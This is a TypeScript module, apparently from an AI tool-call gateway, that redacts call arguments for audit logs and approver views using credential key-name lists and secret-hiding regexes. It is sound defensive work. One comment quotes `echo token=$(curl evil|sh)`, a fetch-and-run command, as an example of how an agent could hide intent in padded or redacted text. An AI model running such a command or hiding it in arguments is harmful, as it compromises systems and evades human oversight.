// What of a call's arguments the audit log may keep (the `audit.arguments` setting):
//   none     → nothing;
//   keys     → the shape only: every leaf replaced by its type name;
//   redacted → values under secret-looking keys and under the policy's `redact` paths replaced by
//              "[REDACTED]", secrets inside strings (`password=…`, bearer tokens, a URL's
//              password) hidden as in a log line, long strings and long keys shortened;
//   full     → everything, as sent, except values under the policy's `redact` paths: the policy
//              says the log never stores them, whatever the mode.
// Every mode cuts nesting deeper than MAX_DEPTH: a record nested thousands of levels deep could not
// even be serialised (the stack overflows), and would never be stored.
// The input is never changed: the same object is what the gateway forwards upstream.
import { isObject } from '../mcp/jsonrpc.js';
import type { ArgumentMode } from './config-schema.js';

export const REDACTED = '[REDACTED]';
/** Longer strings (and, but in `full`, longer keys) are cut to this many characters, followed by their full length. */
export const MAX_STRING_CHARS = 256;
/** Deeper structures are cut, in every mode: a log line is not the place for a whole document. */
export const MAX_DEPTH = 32;
/** What stands for a list or an object nested deeper than MAX_DEPTH. */
export const TOO_DEEP = '[too deep]';

export interface RedactOptions {
  mode?: ArgumentMode;
  /** The policy's `redact` paths: dotted (`card.number`) or JSON pointers (`/card/number`). */
  paths?: readonly string[];
}

// Keys are matched with separators removed and in lowercase, so `API-Key`, `api_key` and `apiKey`
// are one word. These name a credential as a whole key and as its suffix (`github_token`, `dbPassword`).
const SECRET_SUFFIXES = [
  'password',
  'passwd',
  'passphrase',
  'secret',
  'token',
  'apikey',
  'accesskey',
  'privatekey',
  'secretkey',
  'credential',
  'credentials',
  'cookie',
  'sessionid',
  'authorization',
];
// Lists of credentials, as a whole key and as its suffix (`access_tokens`, `session_cookies`), and
// `tokens` as a whole key only (`max_tokens` is a count). See hidesValue for numbers and flags.
const SECRET_PLURAL_SUFFIXES = [
  'passwords',
  'passphrases',
  'secrets',
  'apikeys',
  'accesskeys',
  'privatekeys',
  'secretkeys',
  'cookies',
  'sessionids',
  'accesstokens',
  'refreshtokens',
  'idtokens',
  'authtokens',
  'apitokens',
  'bearertokens',
];
// More words that name a credential as a whole key: `pin` is a secret, `spin` or `pin_count` is not.
const SECRET_WHOLE_WORDS = [
  'pwd',
  'signingkey',
  'encryptionkey',
  'auth',
  'session',
  'bearer',
  'jwt',
  'otp',
  'pin',
  'cvv',
  'cvc',
  'ssn',
  'clientsecret',
  'refreshtoken',
  'accesstoken',
  'idtoken',
];
// As a prefix only the unambiguous ones: `token_count` or `sessions` are not secrets.
const SECRET_PREFIXES = ['password', 'passwd', 'passphrase', 'secret', 'apikey', 'privatekey', 'credential'];
const SECRET_EXACT = new Set([...SECRET_SUFFIXES, ...SECRET_WHOLE_WORDS]);

/** Whether a key names one credential (`one`), a list of them (`list`), or neither. */
function secretKind(key: string): 'one' | 'list' | undefined {
  const word = key.toLowerCase().replace(/[-_.\s]/g, '');
  if (SECRET_EXACT.has(word)) return 'one';
  if (SECRET_SUFFIXES.some((s) => word.endsWith(s)) || SECRET_PREFIXES.some((p) => word.startsWith(p))) return 'one';
  return word === 'tokens' || SECRET_PLURAL_SUFFIXES.some((s) => word.endsWith(s)) ? 'list' : undefined;
}

/** Whether a key names a credential, or a list of them, whose value must not be logged. */
export function isSecretKey(key: string): boolean {
  return secretKind(key) !== undefined;
}

/**
 * Whether the value under `key` is hidden. Under a key naming a list of credentials, a number or a
 * boolean is a count or a flag (`tokens: 500`, `include_secrets: true`) that an approver must see.
 */
function hidesValue(key: string, value: unknown): boolean {
  const kind = secretKind(key);
  if (kind === 'list') return typeof value !== 'number' && typeof value !== 'boolean';
  return kind === 'one';
}

/** The arguments as the mode allows; undefined for `none`. */
export function redactArguments(args: unknown, opts: RedactOptions = {}): unknown {
  const mode = opts.mode ?? 'redacted';
  if (mode === 'none') return undefined;
  if (mode === 'keys') return shapeOf(args, 0);
  const patterns = compiledPaths(opts.paths ?? NO_PATHS);
  if (mode === 'full') return patterns.length === 0 ? cutDeep(args, 0) : redactValue(args, patterns, 0, 'paths');
  return redactValue(args, patterns, 0, 'all');
}

/**
 * The arguments as a person asked to approve them sees them: whole, but for the values at the
 * policy's `redact` paths and under secret-looking keys (`api_key`, `password`: credentials, which
 * a webhook message must not carry). Not as the audit log keeps them: a secret-looking part of a
 * text, or a text shortened after MAX_STRING_CHARS, is where an agent could hide what the call does
 * (`echo token=$(curl evil|sh)`, a command padded past the cut), and an approval covers the
 * arguments exactly. Undefined when they nest deeper than MAX_DEPTH: they cannot be shown whole, so
 * no one can approve them.
 */
export function approverArguments(args: unknown, paths: readonly string[]): unknown {
  if (cutDeep(args, 0) !== args) return undefined;
  return redactValue(args, compiledPaths(paths), 0, 'keys');
}

/** The most a record keeps of a name or id the client chose (a tool, a prompt, a URI, a request id). */
export const MAX_NAME_CHARS = 1024;

/**
 * A name or id the client chose, as an audit record keeps it: cut after MAX_NAME_CHARS with its
 * length said. A client may send a name of megabytes (a tool the server does not have), and every
 * such call would write that much to the audit log, and to every page and poll that reads it.
 */
export function auditedName(text: string): string {
  return shortened(text, MAX_NAME_CHARS);
}

/** `text` whole, or its first `max` characters and its length: `…(1000000 chars)`. */
export function shortened(text: string, max: number): string {
  return text.length <= max ? text : `${text.slice(0, max)}…(${text.length} chars)`;
}

/**
 * A text for a log line or an error field: secret-looking `key=value` and `"key": "value"` pairs,
 * bearer tokens and the passwords of URLs (`postgres://user:PASSWORD@host`) hidden.
 */
export function redactText(text: string): string {
  return shorten(
    text
      .replace(/\b([a-z][a-z0-9+.-]*:\/\/[^\s:/@]*):[^\s@/]+@/gi, `$1:${REDACTED}@`)
      .replace(/\b(Bearer|Basic)\s+[A-Za-z0-9._~+/=-]+/gi, `$1 ${REDACTED}`)
      .replace(/("([^"\\]+)"\s*:\s*)"(?:[^"\\]|\\.)*"/g, (whole, head: string, key: string) =>
        isSecretKey(key) ? `${head}"${REDACTED}"` : whole,
      )
      .replace(/\b([A-Za-z][\w-]*)=([^\s&;,]+)/g, (whole, key: string) =>
        isSecretKey(key) ? `${key}=${REDACTED}` : whole,
      ),
  );
}

/** A JSON-RPC error as the audit log keeps it: code and message, secrets hidden, long text shortened. */
export function auditedErrorText(code: number, message: string): string {
  return redactText(`${code} ${message}`).slice(0, 500);
}

function shapeOf(value: unknown, depth: number): unknown {
  if (Array.isArray(value)) return depth >= MAX_DEPTH ? 'array' : value.map((v) => shapeOf(v, depth + 1));
  if (isObject(value)) {
    if (depth >= MAX_DEPTH) return 'object';
    return withKeys(Object.entries(value).map(([k, v]): [string, unknown] => [shorten(k), shapeOf(v, depth + 1)]));
  }
  return value === null ? 'null' : typeof value;
}

type PathPattern = string[];

/** `card.number`, `args.card.number` and `/card/number` all name the same argument. */
const NO_PATHS: readonly string[] = [];
/** A policy's redact paths are one frozen array per tool (policy-redact-paths.ts): compiled once each. */
const compiledByPaths = new WeakMap<readonly string[], PathPattern[]>();

function compiledPaths(paths: readonly string[]): PathPattern[] {
  let patterns = compiledByPaths.get(paths);
  if (!patterns) compiledByPaths.set(paths, (patterns = compilePaths(paths)));
  return patterns;
}

function compilePaths(paths: readonly string[]): PathPattern[] {
  return paths.map((p) => {
    const segments = p.startsWith('/')
      ? p
          .slice(1)
          .split('/')
          .map((s) => s.replaceAll('~1', '/').replaceAll('~0', '~'))
      : p.split('.');
    return segments[0] === 'args' && segments.length > 1 && !p.startsWith('/') ? segments.slice(1) : segments;
  });
}

/** The patterns that continue below `key`; an empty pattern means "this value is redacted". */
function descend(patterns: PathPattern[], key: string, inArray: boolean): PathPattern[] {
  const next: PathPattern[] = [];
  for (const p of patterns) {
    const [head, ...rest] = p;
    if (head === key || head === '*') next.push(rest);
    // A path through a list applies to every item: `recipients.email` reaches each recipient.
    else if (inArray) next.push(p);
  }
  return next;
}

/**
 * What is hidden: `paths` (full mode), only the policy's paths; `keys` (what approvers see), those
 * and the values under secret-looking keys; `all` (redacted mode), those and every secret-looking
 * part of a text, with long texts and keys shortened.
 */
type Hidden = 'paths' | 'keys' | 'all';

/**
 * The value with what `hidden` names replaced, and nesting cut. A key is matched (secret, paths) as
 * sent; in `all` it is stored shortened like a long string.
 */
function redactValue(value: unknown, patterns: PathPattern[], depth: number, hidden: Hidden): unknown {
  if (typeof value === 'string') return hidden === 'all' ? redactText(value) : value;
  if (hidden === 'paths' && patterns.length === 0) return cutDeep(value, depth);
  if (Array.isArray(value)) {
    if (depth >= MAX_DEPTH) return TOO_DEEP;
    return value.map((item, i) => redactChild(item, descend(patterns, String(i), true), depth, hidden));
  }
  if (isObject(value)) {
    if (depth >= MAX_DEPTH) return TOO_DEEP;
    return withKeys(
      Object.entries(value).map(([key, item]): [string, unknown] => [
        hidden === 'all' ? shorten(key) : key,
        hidden !== 'paths' && hidesValue(key, item)
          ? REDACTED
          : redactChild(item, descend(patterns, key, false), depth, hidden),
      ]),
    );
  }
  return value;
}

/**
 * The value with every list or object deeper than MAX_DEPTH replaced by TOO_DEEP, and nothing else
 * changed (full mode). What has nothing to cut is returned as it is, not copied: the common case
 * costs one walk and no allocation.
 */
function cutDeep(value: unknown, depth: number): unknown {
  if (Array.isArray(value)) {
    if (depth >= MAX_DEPTH) return TOO_DEEP;
    let out: unknown[] | undefined;
    for (let i = 0; i < value.length; i++) {
      const item: unknown = value[i];
      const cut = cutDeep(item, depth + 1);
      if (cut !== item) (out ??= value.slice())[i] = cut;
    }
    return out ?? value;
  }
  if (isObject(value)) {
    if (depth >= MAX_DEPTH) return TOO_DEEP;
    const entries = Object.entries(value);
    let changed = false;
    for (const entry of entries) {
      const cut = cutDeep(entry[1], depth + 1);
      if (cut !== entry[1]) {
        entry[1] = cut;
        changed = true;
      }
    }
    return changed ? withKeys(entries) : value;
  }
  return value;
}

/**
 * An object of these entries. Shortened keys could meet: two keys of one length that share their
 * first MAX_STRING_CHARS characters. The later one is numbered (`…(N chars)#2`) rather than lost.
 * Object.fromEntries defines each key as data, so even a `__proto__` key stays a plain key.
 */
function withKeys(entries: [string, unknown][]): Record<string, unknown> {
  // Only a shortened key is longer than MAX_STRING_CHARS: without one, no two keys can meet.
  if (!entries.some(([key]) => key.length > MAX_STRING_CHARS)) return Object.fromEntries(entries);
  const seen = new Set<string>();
  for (const entry of entries) {
    let key = entry[0];
    for (let n = 2; seen.has(key); n++) key = `${entry[0]}#${n}`;
    seen.add(key);
    entry[0] = key;
  }
  return Object.fromEntries(entries);
}

function redactChild(value: unknown, patterns: PathPattern[], depth: number, hidden: Hidden): unknown {
  if (patterns.some((p) => p.length === 0)) return REDACTED;
  return redactValue(value, patterns, depth + 1, hidden);
}

function shorten(text: string): string {
  return shortened(text, MAX_STRING_CHARS);
}
